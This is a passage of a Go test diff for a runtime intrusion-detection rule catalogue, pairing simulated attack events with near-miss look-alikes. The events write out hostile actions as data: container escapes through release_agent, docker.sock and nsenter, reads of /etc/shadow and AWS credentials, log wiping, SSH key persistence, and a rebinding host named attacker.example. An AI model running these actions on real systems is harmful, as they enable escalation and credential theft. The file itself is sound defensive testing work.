+			evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/root/.bash_history", "/tmp/h")), nil},
+		scenario{"bash appending to its history is not", history, false,
+			evs(openEv(sh(), "openat", "/root/.bash_history", oWRONLY|oAPPEND)), nil},
+	)
+	add(
+		scenario{"LD_PRELOAD naming an unknown library", ldPre, true,
+			evs(execEv(proc("sshd", "/usr/sbin/sshd", "sshd"), ldPreload("/tmp/.l/libprocesshider.so"))), nil},
+		scenario{"LD_PRELOAD with jemalloc is not", ldPre, false,
+			evs(execEv(proc("redis-server", "/usr/bin/redis-server", "redis-server"), ldPreload("/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"))), nil},
+		scenario{"no LD_PRELOAD is not", ldPre, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
+	)
+
+	// Persistence and discovery.
+	add(
+		scenario{"useradd creates an account", persistCmd, true, evs(execEv(proc("useradd", "/usr/sbin/useradd", "useradd", "-m", "bob"))), nil},
+		scenario{"systemctl enable installs a service", persistCmd, true, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "enable", "x.service"))), nil},
+		scenario{"crontab from a file installs jobs", persistCmd, true, evs(execEv(proc("crontab", "/usr/bin/crontab", "crontab", "/tmp/c"))), nil},
+		scenario{"adduser run by a package's maintainer script is not", persistCmd, false,
+			evs(execEv(childOf(proc("adduser", "/usr/sbin/adduser", "adduser", "--system", "_apt"), proc("dpkg", "/usr/bin/dpkg", "dpkg")))), nil},
+		scenario{"systemctl status is not", persistCmd, false, evs(execEv(proc("systemctl", "/usr/bin/systemctl", "systemctl", "status", "x"))), nil},
+	)
+	add(
+		scenario{"id run by a script in a container is reconnaissance", recon, true,
+			evs(execEv(childOf(proc("id", "/usr/bin/id", "id"), proc("python3", "/usr/bin/python3", "python3", "x.py")), inCtr)), nil},
+		scenario{"id on the host is not container reconnaissance", recon, false, evs(execEv(proc("id", "/usr/bin/id", "id"))), nil},
+		scenario{"an operator typing whoami in a container terminal is not", recon, false,
+			evs(execEv(withTTY(proc("whoami", "/usr/bin/whoami", "whoami")), inCtr)), nil},
+	)
+	add(
+		scenario{"aws sts get-caller-identity is cloud discovery", cloudID, true,
+			evs(execEv(proc("aws", "/usr/local/bin/aws", "aws", "sts", "get-caller-identity"))), nil},
+		scenario{"kubectl get secrets is cloud discovery", cloudID, true,
+			evs(execEv(proc("kubectl", "/usr/local/bin/kubectl", "kubectl", "get", "secrets", "-A"))), nil},
+		scenario{"aws s3 cp is not", cloudID, false, evs(execEv(proc("aws", "/usr/local/bin/aws", "aws", "s3", "cp", "a", "s3://b/a"))), nil},
+	)
+	add(
+		scenario{"curl to the instance metadata service from a container", imds, true,
+			evs(connectEv(proc("curl", "/usr/bin/curl", "curl", "http://169.254.169.254/latest/meta-data/"), "169.254.169.254", 80, inCtr)), nil},
+		scenario{"an SDK fetching task credentials from the ECS endpoint is not", imds, false,
+			evs(connectEv(proc("java", "/usr/bin/java", "java", "-jar", "app.jar"), "169.254.170.2", 80, inCtr)), nil},
+		scenario{"the metadata service from the host is not", imds, false,
+			evs(connectEv(proc("curl", "/usr/bin/curl", "curl"), "169.254.169.254", 80)), nil},
+	)
+	add(
+		scenario{"cat of AWS credentials is a credential read", cloudCreds, true, evs(readEv(proc("cat", "/usr/bin/cat", "cat", "/root/.aws/credentials"), "/root/.aws/credentials")), nil},
+		scenario{"the aws CLI reading its credentials is not", cloudCreds, false, evs(readEv(proc("aws", "/usr/local/bin/aws", "aws"), "/root/.aws/credentials")), nil},
+	)
+	scan := proc("scan", "/tmp/scan", "./scan")
+	var scanEvs, fewEvs, webEvs []*vigilv1.Event
+	for i := uint32(0); i < 60; i++ {
+		res := failed("ECONNREFUSED", 111)
+		if i%2 == 0 {
+			res = failed("EINPROGRESS", 115)
+		}
+		scanEvs = append(scanEvs, connectEv(scan, "10.0.0.20", 20+i, res, after(time.Duration(i)*10*time.Millisecond)))
+	}
+	few := proc("scan", "/tmp/scan", "./scan")
+	for i := uint32(0); i < 40; i++ {
+		fewEvs = append(fewEvs, connectEv(few, "10.0.0.20", 20+i, failed("ECONNREFUSED", 111), after(time.Duration(i)*10*time.Millisecond)))
+	}
+	nginx := proc("nginx", "/usr/sbin/nginx", "nginx: worker process")
+	for i := 0; i < 500; i++ {
+		webEvs = append(webEvs, connectEv(nginx, "10.0.2."+string(rune('0'+i%10)), 8080, failed("EINPROGRESS", 115), after(time.Duration(i)*time.Millisecond)))
+	}
+	add(
+		scenario{"sixty closed or pending ports in under a second is a port scan", portScan, true, scanEvs, nil},
+		scenario{"forty ports stays below the count", portScan, false, fewEvs, nil},
+		scenario{"a web server's many non-blocking connects to one upstream port are not", portScan, false, webEvs, nil},
+	)
+	add(
+		scenario{"an AF_PACKET socket from an unknown program", rawSock, true, evs(socketEv(proc("x", "/tmp/x", "./x"), 17, "AF_PACKET")), nil},
+		scenario{"dhclient's AF_PACKET socket is not", rawSock, false, evs(socketEv(proc("dhclient", "/usr/sbin/dhclient", "dhclient"), 17, "AF_PACKET")), nil},
+		scenario{"an AF_NETLINK socket is not", rawSock, false, evs(socketEv(proc("x", "/tmp/x", "./x"), 16, "AF_NETLINK")), nil},
+	)
+
+	// Privilege escalation and escapes.
+	add(
+		scenario{"release_agent opened for write in a container", relAgent, true,
+			evs(openEv(sh("-c", "echo /cmd > /tmp/cg/release_agent"), "openat", "/tmp/cg/release_agent", oWRONLY|oCREAT|oTRUNC, inCtr)), nil},
+		scenario{"a denied release_agent write attempt", relAgent, true,
+			evs(openEv(sh(), "openat", "/sys/fs/cgroup/release_agent", oWRONLY, inCtr, failed("EROFS", 30))), nil},
+		scenario{"systemd on the host writing release_agent is not", relAgent, false,
+			evs(openEv(proc("systemd", "/usr/lib/systemd/systemd", "/sbin/init"), "openat", "/sys/fs/cgroup/systemd/release_agent", oWRONLY)), nil},
+		scenario{"a process renamed systemd on the host is not systemd", relAgent, true,
+			evs(openEv(proc("systemd", "/tmp/systemd", "systemd"), "openat", "/sys/fs/cgroup/release_agent", oWRONLY)), nil},
+		scenario{"reading release_agent is not", relAgent, false,
+			evs(readEv(proc("cat", "/usr/bin/cat", "cat"), "/sys/fs/cgroup/release_agent", inCtr)), nil},
+	)
+	runcP := proc("runc", "/usr/bin/runc", "runc", "init")
+	add(
+		scenario{"a failed mount of /etc inside a container", mount, true,
+			evs(mountEv(proc("m", "/tmp/m", "./m"), "/etc", "/tmp", "", inCtr, failed("EPERM", 1))), nil},
+		scenario{"mounting the host disk inside a privileged container", mount, true,
+			evs(mountEv(proc("mount", "/usr/bin/mount", "mount", "/dev/nvme0n1p1", "/mnt"), "/dev/nvme0n1p1", "/mnt", "ext4", inCtr)), nil},
+		scenario{"runc setting up the container's mounts is not", mount, false,
+			evs(mountEv(runcP, "proc", "/proc", "proc", inCtr)), nil},
+		scenario{"a mount on the host is not", mount, false, evs(mountEv(proc("mount", "/usr/bin/mount", "mount"), "/dev/sdb1", "/data", "xfs")), nil},
+	)
+	add(
+		scenario{"nc -U to docker.sock from a container", dockerSock, true,
+			evs(connectUnixEv(proc("nc", "/usr/bin/nc", "nc", "-U", "/var/run/docker.sock"), "/var/run/docker.sock", inCtr)), nil},
+		scenario{"curl to containerd's ttrpc socket from a container", dockerSock, true,
+			evs(connectUnixEv(proc("curl", "/usr/bin/curl", "curl"), "/run/containerd/containerd.sock.ttrpc", inCtr)), nil},
+		scenario{"a host program renamed docker in /tmp is not the docker CLI", dockerSock, true,
+			evs(connectUnixEv(proc("docker", "/tmp/docker", "docker"), "/run/docker.sock")), nil},
+		scenario{"the docker CLI on the host is not", dockerSock, false,
+			evs(connectUnixEv(proc("docker", "/usr/bin/docker", "docker", "ps"), "/run/docker.sock")), nil},
+		scenario{"kubelet talking to containerd is not", dockerSock, false,
+			evs(connectUnixEv(proc("kubelet", "/usr/bin/kubelet", "kubelet"), "/run/containerd/containerd.sock")), nil},
+		scenario{"an app in a container using its own unix socket is not", dockerSock, false,
+			evs(connectUnixEv(proc("php-fpm", "/usr/sbin/php-fpm", "php-fpm"), "/run/php/php-fpm.sock", inCtr)), nil},
+	)
+	add(
+		scenario{"runc opened for write", runc, true, evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/usr/bin/runc", oWRONLY|oTRUNC, inCtr)), nil},
+		scenario{"runc replaced through creat(2)", runc, true, evs(openEv(proc("x", "/tmp/x", "./x"), "creat", "/usr/local/sbin/runc", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"dpkg upgrading runc is not", runc, false, evs(openEv(dpkg, "openat", "/usr/bin/runc", oWRONLY|oCREAT|oTRUNC)), nil},
+		scenario{"containerd executing runc reads it and is not", runc, false,
+			evs(readEv(proc("containerd", "/usr/bin/containerd", "containerd"), "/usr/bin/runc")), nil},
+	)
+	add(
+		scenario{"the userfaultfd syscall", uffd, true, evs(userfaultfdEv(proc("x", "/tmp/x", "./x"))), nil},
+		scenario{"opening /dev/userfaultfd", uffd, true, evs(openEv(proc("x", "/tmp/x", "./x"), "openat", "/dev/userfaultfd", oRDWR)), nil},
+		scenario{"an exploit renamed criu is not criu", uffd, true, evs(userfaultfdEv(proc("criu", "/tmp/criu", "criu"))), nil},
+		scenario{"criu restoring a process is not", uffd, false, evs(userfaultfdEv(proc("criu", "/usr/sbin/criu", "criu", "restore"))), nil},
+	)
+	add(
+		scenario{"a non-root user gaining euid 0 through an unusual setuid binary", elevate, true,
+			evs(execEv(asUser(proc("pkexec", "/usr/bin/pkexec", "pkexec"), 1000, 0))), nil},
+		scenario{"a setuid copy of bash in /tmp", elevate, true,
+			evs(execEv(asUser(proc("bash", "/tmp/.b", "/tmp/.b", "-p"), 1000, 0))), nil},
+		scenario{"sudo is the usual way and not", elevate, false,
+			evs(execEv(asUser(proc("sudo", "/usr/bin/sudo", "sudo", "apt", "update"), 1000, 0))), nil},
+		scenario{"root running a program is not an elevation", elevate, false, evs(execEv(proc("ls", "/usr/bin/ls", "ls"))), nil},
+		scenario{"a user's own program is not", elevate, false, evs(execEv(asUser(proc("ls", "/usr/bin/ls", "ls"), 1000, 1000))), nil},
+	)
+	add(
+		scenario{"chmod u+s", privCmd, true, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "u+s", "/tmp/b"))), nil},
+		scenario{"chmod 4755", privCmd, true, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "4755", "/tmp/b"))), nil},
+		scenario{"nsenter --target=1 into the host", privCmd, true,
+			evs(execEv(proc("nsenter", "/usr/bin/nsenter", "nsenter", "--target=1", "--mount", "--uts", "--ipc", "--net", "--pid"))), nil},
+		scenario{"a privileged container with the host root bind-mounted through --mount", privCmd, true,
+			evs(execEv(proc("docker", "/usr/bin/docker", "docker", "run", "--privileged", "--mount", "type=bind,source=/,target=/host", "alpine"))), nil},
+		scenario{"chmod 755 is not", privCmd, false, evs(execEv(proc("chmod", "/usr/bin/chmod", "chmod", "755", "/tmp/b"))), nil},
+		scenario{"docker run --privileged of a build image without host mounts is not", privCmd, false,
+			evs(execEv(proc("docker", "/usr/bin/docker", "docker", "run", "--privileged", "-v", "/var/lib/ci:/ci", "builder"))), nil},
+	)
+	add(
+		scenario{"BPF_PROG_LOAD in a container", bpfCtr, true, evs(bpfEv(proc("x", "/tmp/x", "./x"), 5, "BPF_PROG_LOAD", inCtr)), nil},
+		scenario{"BPF_MAP_CREATE in a container is not a program load", bpfCtr, false, evs(bpfEv(proc("x", "/tmp/x", "./x"), 0, "BPF_MAP_CREATE", inCtr)), nil},
+		scenario{"BPF_PROG_LOAD on the host (the sensor itself) is not", bpfCtr, false,
+			evs(bpfEv(proc("vigil-sensor", "/usr/local/bin/vigil-sensor", "vigil-sensor"), 5, "BPF_PROG_LOAD")), nil},
+	)
+	add(
+		scenario{"fchmodat setting the setuid bit from a program", setuidBit, true, evs(chmodEv(proc("x", "/tmp/x", "./x"), "fchmodat", "/tmp/sh", 0o4755)), nil},
+		scenario{"fchmod setting the setuid bit", setuidBit, true, evs(chmodEv(proc("python3", "/usr/bin/python3", "python3"), "fchmod", "/var/tmp/b", 0o104755)), nil},
+		scenario{"a plain chmod 755 is not", setuidBit, false, evs(chmodEv(proc("chmod", "/usr/bin/chmod", "chmod"), "fchmodat", "/tmp/b", 0o755)), nil},
+		scenario{"a setgid directory is not", setuidBit, false, evs(chmodEv(proc("chmod", "/usr/bin/chmod", "chmod"), "fchmodat", "/srv/shared", 0o2775)), nil},
+		scenario{"dpkg installing a setuid binary is not", setuidBit, false, evs(chmodEv(dpkg, "fchmodat", "/usr/bin/passwd", 0o4755)), nil},
+		scenario{"containerd unpacking an image layer is not", setuidBit, false,
+			evs(chmodEv(proc("containerd", "/usr/bin/containerd", "containerd"), "fchmodat", "/var/lib/containerd/snap/1/fs/usr/bin/su", 0o4755)), nil},
+	)
+
+	// Sensitive files.
+	add(
+		scenario{"/etc/passwd opened for writing", persistF, true, evs(openEv(sh(), "openat", "/etc/passwd", oWRONLY|oAPPEND, inCtr)), nil},
+		scenario{"an authorized_keys file written", persistF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee", "-a"), "/root/.ssh/authorized_keys")), nil},
+		scenario{"a cron file renamed into /etc/cron.d", persistF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat2", "/tmp/j", "/etc/cron.d/j")), nil},
+		scenario{"a systemd unit symlinked into place", persistF, true, evs(linkEv(proc("ln", "/usr/bin/ln", "ln"), "symlinkat", "/tmp/x.service", "/etc/systemd/system/x.service")), nil},
+		scenario{"/etc/shadow moved away", persistF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "rename", "/etc/shadow", "/tmp/s")), nil},
+		scenario{"/etc/shadow hard-linked elsewhere", persistF, true, evs(linkEv(proc("ln", "/usr/bin/ln", "ln"), "linkat", "/etc/shadow", "/tmp/s")), nil},
+		scenario{"a tool renamed passwd in /tmp writing /etc/shadow", persistF, true, evs(writeEv(proc("passwd", "/tmp/passwd", "passwd"), "/etc/shadow")), nil},
+		scenario{"a bashrc in a home directory removed", persistF, true, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm"), "/home/alice/.bashrc")), nil},
+		scenario{"apt-get's dpkg writing /etc/passwd is not", persistF, false,
+			evs(writeEv(childOf(proc("useradd", "/usr/sbin/useradd", "useradd"), dpkg), "/etc/passwd")), nil},
+		scenario{"passwd changing a password is not", persistF, false, evs(writeEv(proc("passwd", "/usr/bin/passwd", "passwd"), "/etc/shadow")), nil},
+		scenario{"reading /etc/passwd is not", persistF, false, evs(readEv(proc("id", "/usr/bin/id", "id"), "/etc/passwd")), nil},
+	)
+	add(
+		scenario{"/etc/sudoers written", privF, true, evs(openEv(sh(), "openat", "/etc/sudoers", oWRONLY|oAPPEND)), nil},
+		scenario{"a file dropped into /etc/sudoers.d", privF, true, evs(writeEv(proc("tee", "/usr/bin/tee", "tee"), "/etc/sudoers.d/99-x")), nil},
+		scenario{"a PAM module configuration moved away", privF, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "renameat", "/etc/pam.d/sshd", "/tmp/p")), nil},
+		scenario{"visudo is not", privF, false, evs(writeEv(proc("visudo", "/usr/sbin/visudo", "visudo"), "/etc/sudoers.tmp")), nil},
+		scenario{"sudo reading sudoers is not", privF, false, evs(readEv(proc("sudo", "/usr/bin/sudo", "sudo"), "/etc/sudoers")), nil},
+	)
+	logrotate := proc("logrotate", "/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf")
+	add(
+		scenario{"auth.log truncated", logs, true, evs(openEv(sh(), "openat", "/var/log/auth.log", oWRONLY|oTRUNC)), nil},
+		scenario{"wtmp removed", logs, true, evs(unlinkEv(proc("rm", "/usr/bin/rm", "rm"), "/var/log/wtmp")), nil},
+		scenario{"syslog truncated with truncate(2)", logs, true, evs(truncateEv(proc("truncate", "/usr/bin/truncate", "truncate"), "truncate", "/var/log/syslog", 0)), nil},
+		scenario{"a log moved out of /var/log", logs, true, evs(renameEv(proc("mv", "/usr/bin/mv", "mv"), "rename", "/var/log/secure", "/tmp/s")), nil},
+		scenario{"audit rules rewritten", logs, true, evs(writeEv(proc("vi", "/usr/bin/vi", "vi"), "/etc/audit/rules.d/audit.rules")), nil},
+		scenario{"a wiper renamed logrotate in /tmp", logs, true, evs(openEv(proc("logrotate", "/tmp/logrotate", "logrotate"), "openat", "/var/log/auth.log", oWRONLY|oTRUNC)), nil},
+		scenario{"logrotate truncating a log is not", logs, false, evs(truncateEv(logrotate, "ftruncate", "/var/log/nginx/access.log", 0)), nil},
+		scenario{"logrotate rotating a log is not", logs, false, evs(renameEv(logrotate, "rename", "/var/log/syslog", "/var/log/syslog.1")), nil},
+		scenario{"nginx appending to its access log is not", logs, false, evs(openEv(nginx, "openat", "/var/log/nginx/access.log", oWRONLY|oAPPEND|oCREAT)), nil},
+	)
+	add(
+		scenario{"cat /etc/shadow", shadow, true, evs(readEv(proc("cat", "/usr/bin/cat", "cat", "/etc/shadow"), "/etc/shadow")), nil},
+		scenario{"unix_chkpwd checking a password is not", shadow, false, evs(readEv(proc("unix_chkpwd", "/usr/sbin/unix_chkpwd", "unix_chkpwd"), "/etc/shadow")), nil},
+		scenario{"reading /etc/passwd is not", shadow, false, evs(readEv(proc("cat", "/usr/bin/cat", "cat"), "/etc/passwd")), nil},
+	)
+
+	// Threat intelligence.
+	dig := proc("dig", "/usr/bin/dig", "dig")
+	curlP := proc("curl", "/usr/bin/curl", "curl")
+	add(
+		scenario{"a lookup of GuardDuty's C&C test domain", c2DNS, true, evs(dnsQueryEv(dig, "c2.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of the crypto test subdomain is not C&C (it is more specific)", c2DNS, false, evs(dnsQueryEv(dig, "crypto.guarddutyc2activityb.com")), nil},
+		scenario{"dig of a normal domain is not C&C", c2DNS, false, evs(dnsQueryEv(dig, "example.com")), nil},
+		scenario{"a connect to a C&C address from the config map", c2IP, true, evs(connectEv(curlP, "203.0.113.10", 443)), nil},
+		scenario{"a connect to a C&C IPv6 address from the config map", c2IP, true, evs(connectEv(curlP, "2001:db8::10", 443)), nil},
+		scenario{"a connect to another address is not C&C", c2IP, false, evs(connectEv(curlP, "203.0.113.11", 443)), nil},
+		scenario{"a lookup of a mining pool", btcDNS, true, evs(dnsQueryEv(dig, "xmr.pool.supportxmr.com")), nil},
+		scenario{"a lookup of GuardDuty's crypto test domain", btcDNS, true, evs(dnsQueryEv(dig, "crypto.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of a domain that only ends like a pool is not", btcDNS, false, evs(dnsQueryEv(dig, "notsupportxmr.com")), nil},
+		scenario{"a connect into a cryptocurrency CIDR", btcIP, true, evs(connectEv(curlP, "203.0.113.21", 3333)), nil},
+		scenario{"a connect next to a cryptocurrency CIDR is not", btcIP, false, evs(connectEv(curlP, "203.0.113.22", 3333)), nil},
+		scenario{"a lookup of the abused-domain test name", abused, true, evs(dnsQueryEv(dig, "abused-rep.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of a normal domain is not abused", abused, false, evs(dnsQueryEv(dig, "aws.amazon.com")), nil},
+		scenario{"a lookup of the crypto-reputation test name", btcRep, true, evs(dnsQueryEv(dig, "crypto-rep.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of a normal domain is not crypto reputation", btcRep, false, evs(dnsQueryEv(dig, "github.com")), nil},
+		scenario{"a lookup of the malicious-reputation test name", malRep, true, evs(dnsQueryEv(dig, "malicious-rep.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of a normal domain is not malicious", malRep, false, evs(dnsQueryEv(dig, "debian.org")), nil},
+		scenario{"a lookup of the suspicious-reputation test name", suspRep, true, evs(dnsQueryEv(dig, "suspicious-rep.guarddutyc2activityb.com")), nil},
+		scenario{"a lookup of a normal domain is not suspicious", suspRep, false, evs(dnsQueryEv(dig, "golang.org")), nil},
+		scenario{"a lookup of the black-hole test domain", bhDNS, true, evs(dnsQueryEv(dig, "guarddutyblackholeactivity.com")), nil},
+		scenario{"a lookup of a normal domain is not black-holed", bhDNS, false, evs(dnsQueryEv(dig, "example.org")), nil},
+		scenario{"a connect to a black-hole address", bhIP, true, evs(connectEv(curlP, "198.51.100.30", 80)), nil},
+		scenario{"a connect to another address is not black-holed", bhIP, false, evs(connectEv(curlP, "198.51.100.31", 80)), nil},
+		scenario{"a lookup of the drop-point test domain", dropDNS, true, evs(dnsQueryEv(dig, "x.guarddutydroppointactivity.com")), nil},
+		scenario{"a lookup of a normal domain is not a drop point", dropDNS, false, evs(dnsQueryEv(dig, "example.net")), nil},
+		scenario{"a connect to a drop-point address", dropIP, true, evs(connectEv(curlP, "198.51.100.40", 443)), nil},
+		scenario{"a connect to another address is not a drop point", dropIP, false, evs(connectEv(curlP, "198.51.100.41", 443)), nil},
+		scenario{"a lookup of the phishing test domain", phish, true, evs(dnsQueryEv(dig, "guarddutyphishingactivity.com")), nil},
+		scenario{"a lookup of a normal domain is not phishing", phish, false, evs(dnsQueryEv(dig, "example.com")), nil},
+		scenario{"a lookup of the drive-by test domain", driveby, true, evs(dnsQueryEv(dig, "guarddutydrivebyactivity.com")), nil},
+		scenario{"a lookup of a normal domain is not drive-by", driveby, false, evs(dnsQueryEv(dig, "example.com")), nil},
+		scenario{"a lookup of the DGA test domain", dga, true, evs(dnsQueryEv(dig, "guarddutydgaactivity.com")), nil},
+		scenario{"a lookup of a normal domain is not DGA", dga, false, evs(dnsQueryEv(dig, "example.com")), nil},
+		scenario{"a connect to a Tor directory authority", tor, true, evs(connectEv(proc("tor", "/usr/bin/tor", "tor"), "128.31.0.39", 9131)), nil},
+		scenario{"a connect to a normal address is not Tor", tor, false, evs(connectEv(curlP, "93.184.216.34", 443)), nil},
+		scenario{"an answer pointing an ordinary name at 169.254.169.254 is DNS rebinding", rebind, true,
+			evs(dnsAnswerEv(curlP, "rebind.attacker.example", []string{"169.254.169.254"}, inCtr)), nil},
+		scenario{"the instance-data name resolving to the metadata service is not", rebind, false,
+			evs(dnsAnswerEv(curlP, "instance-data.ec2.internal", []string{"169.254.169.254"})), nil},
+		scenario{"an ordinary answer is not rebinding", rebind, false, evs(dnsAnswerEv(curlP, "example.com", []string{"93.184.216.34"})), nil},
+	)
+	return s
+}
+
+func TestCatalogueScenarios(t *testing.T) {
+	rs := loadCatalogue(t, configMap)
+	kinds := map[string]string{}
+	for _, r := range rs.Rules() {
+		kinds[r.Name] = r.Kind
+	}
+	for _, sc := range scenarios() {
+		t.Run(sc.name, func(t *testing.T) {
+			if _, ok := kinds[sc.rule]; !ok {
+				t.Fatalf("no rule %q in the catalogue", sc.rule)
+			}
+			var got []*detect.Alert
+			for _, a := range run(rs, sc.events) {
+				if a.Rule.Name == sc.rule {
+					got = append(got, a)
+				}
+			}
+			if !sc.fire {
+				if len(got) > 0 {
+					t.Fatalf("%q fired on a near miss: %s", sc.rule, got[0].Output)
+				}
+				return
+			}
+			if len(got) == 0 {
+				t.Fatalf("%q did not fire", sc.rule)
+			}
+			a := got[0]
+			if a.Rule.FindingType != wantType[sc.rule] {
+				t.Errorf("finding type %q, want %q", a.Rule.FindingType, wantType[sc.rule])
+			}
+			if a.Output == "" || strings.Contains(a.Output, "%") {
+				t.Errorf("output not rendered: %q", a.Output)
+			}
+			if kinds[sc.rule] != "sequence" {
+				return
+			}
+			if len(got) != 1 {
+				t.Fatalf("sequence fired %d times, want once", len(got))
+			}
+			if len(a.Events) != len(sc.evidence) {
+				t.Fatalf("sequence evidence has %d events, want %d", len(a.Events), len(sc.evidence))
+			}
+			for i, idx := range sc.evidence {
+				if a.Events[i] != sc.events[idx] {
+					t.Errorf("evidence step %d is not scenario event %d", i, idx)
+				}
+			}
+		})
+	}
+}
+
+// TestEveryRuleHasScenarios keeps the table honest: a rule added to the
+// catalogue without an attack that fires it and a look-alike that does not
+// fails here.
+func TestEveryRuleHasScenarios(t *testing.T) {
+	rs := loadCatalogue(t, configMap)
+	fires, misses := map[string]int{}, map[string]int{}
+	for _, sc := range scenarios() {
+		if sc.fire {
+			fires[sc.rule]++
+		} else {
+			misses[sc.rule]++
+		}
+	}
+	for _, r := range rs.Rules() {
+		if !r.Enabled {
+			t.Errorf("rule %q is disabled (unsupported fields: %v)", r.Name, r.Unsupported)
+			continue
+		}
+		if fires[r.Name] == 0 {
+			t.Errorf("rule %q has no scenario that fires it", r.Name)
+		}
+		if misses[r.Name] == 0 {
+			t.Errorf("rule %q has no near-miss scenario", r.Name)
+		}
+		if _, ok := wantType[r.Name]; !ok {
+			t.Errorf("rule %q has no expected finding type in wantType", r.Name)
+		}
+	}
+}
+
+// wantType is the finding type each built-in rule must raise.
+var wantType = map[string]string{
+	"Reverse shell with network standard streams":                 "Execution:Runtime/ReverseShell",
+	"Reverse shell by duplicating a socket onto standard streams": "Execution:Runtime/ReverseShell",
+	"Socket relay started a shell":                                "Execution:Runtime/ReverseShell",
+	"New binary executed in a container":                          "Execution:Runtime/NewBinaryExecuted",
+	"Binary from the container's writable layer executed":         "Execution:Runtime/NewBinaryExecuted",
+	"Binary executed from shared memory":                          "Execution:Runtime/NewBinaryExecuted",
+	"New library loaded in a container":                           "Execution:Runtime/NewLibraryLoaded",
+	"Network service started an interactive shell":                "Execution:Runtime/SuspiciousShellCreated",
+	"Network scanner executed":                                    "Execution:Runtime/SuspiciousTool",
+	"Network sniffer executed":                                    "Execution:Runtime/SuspiciousTool",
+	"Pentest tool executed":                                       "Execution:Runtime/SuspiciousTool",
+	"Tunnelling tool executed":                                    "Execution:Runtime/SuspiciousTool",
+	"Backdoor tool executed":                                      "Execution:Runtime/SuspiciousTool",
+	"Download piped into a shell":                                 "Execution:Runtime/SuspiciousCommand",
+	"Decoded payload piped into a shell":                          "Execution:Runtime/SuspiciousCommand",
+	"Downloaded file executed":                                    "Execution:Runtime/SuspiciousCommand",
+	"Known malicious executable run":                              "Execution:Runtime/MaliciousFileExecuted",
+	"Crypto miner executed":                                       "Impact:Runtime/CryptoMinerExecuted",
+	"Fileless execution":                                          "DefenseEvasion:Runtime/FilelessExecution",
+	"Process memory written through proc":                         "DefenseEvasion:Runtime/ProcessInjection.Proc",
+	"Process injection through ptrace":                            "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
+	"Process memory written with process_vm_writev":               "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
+	"Anti-debugging with PTRACE_TRACEME":                          "DefenseEvasion:Runtime/PtraceAntiDebugging",
+	"Kernel module load attempted":                                "DefenseEvasion:Runtime/KernelModuleLoaded",
+	"Defences disabled":                                           "DefenseEvasion:Runtime/SuspiciousCommand",
+	"Crontab removed":                                             "DefenseEvasion:Runtime/SuspiciousCommand",
+	"Dynamic linker preload file written":                         "DefenseEvasion:Runtime/SuspiciousCommand",
+	"Shell history truncated or removed":                          "DefenseEvasion:Runtime/SuspiciousCommand",
+	"LD_PRELOAD set for a program":                                "DefenseEvasion:Runtime/SuspiciousCommand",
+	"Persistence command":                                         "Persistence:Runtime/SuspiciousCommand",
+	"Reconnaissance in a container":                               "Discovery:Runtime/SuspiciousCommand",
+	"Cloud credentials and identity discovery":                    "Discovery:Runtime/SuspiciousCommand",
+	"Instance metadata queried from a container":                  "Discovery:Runtime/SuspiciousCommand",
+	"Cloud credential files read":                                 "Discovery:Runtime/SuspiciousCommand",
+	"Port scan from one process":                                  "Discovery:Runtime/PortScan",
+	"Raw packet socket opened":                                    "Discovery:Runtime/RawSocketCreated",
+	"Cgroup release_agent opened for write":                       "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
+	"Mount inside a container":                                    "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
+	"Container runtime socket accessed":                           "PrivilegeEscalation:Runtime/DockerSocketAccessed",
+	"Runc binary opened for write":                                "PrivilegeEscalation:Runtime/RuncContainerEscape",
+	"Userfaultfd used":                                            "PrivilegeEscalation:Runtime/UserfaultfdUsage",
+	"Elevation to root through a setuid binary":                   "PrivilegeEscalation:Runtime/ElevationToRoot",
+	"Privilege escalation command":                                "PrivilegeEscalation:Runtime/SuspiciousCommand",
+	"BPF program loaded in a container":                           "PrivilegeEscalation:Runtime/BpfProgramLoadedInContainer",
+	"Setuid bit set on a file":                                    "PrivilegeEscalation:Runtime/SuspiciousCommand",
+	"Persistence file modified":                                   "Persistence:Runtime/SensitiveFileModified",
+	"Privilege file modified":                                     "PrivilegeEscalation:Runtime/SensitiveFileModified",
+	"Logs or audit configuration tampered with":                   "DefenseEvasion:Runtime/SensitiveFileModified",
+	"Password hashes read":                                        "CredentialAccess:Runtime/SensitiveFileRead",
+	"DNS query for a command-and-control domain":                  "Backdoor:Runtime/C&CActivity.B!DNS",
+	"Connection to a command-and-control address":                 "Backdoor:Runtime/C&CActivity.B",
+	"DNS query for a cryptocurrency domain":                       "CryptoCurrency:Runtime/BitcoinTool.B!DNS",
+	"Connection to a cryptocurrency address":                      "CryptoCurrency:Runtime/BitcoinTool.B",
+	"DNS query for an abused domain":                              "Impact:Runtime/AbusedDomainRequest.Reputation",
+	"DNS query for a low-reputation cryptocurrency domain":        "Impact:Runtime/BitcoinDomainRequest.Reputation",
+	"DNS query for a malicious domain":                            "Impact:Runtime/MaliciousDomainRequest.Reputation",
+	"DNS query for a suspicious domain":                           "Impact:Runtime/SuspiciousDomainRequest.Reputation",
+	"DNS query for a black-holed domain":                          "Trojan:Runtime/BlackholeTraffic!DNS",
+	"Connection to a black-hole address":                          "Trojan:Runtime/BlackholeTraffic",
+	"DNS query for a drop-point domain":                           "Trojan:Runtime/DropPoint!DNS",
+	"Connection to a drop-point address":                          "Trojan:Runtime/DropPoint",
+	"DNS query for a phishing domain":                             "Trojan:Runtime/PhishingDomainRequest!DNS",
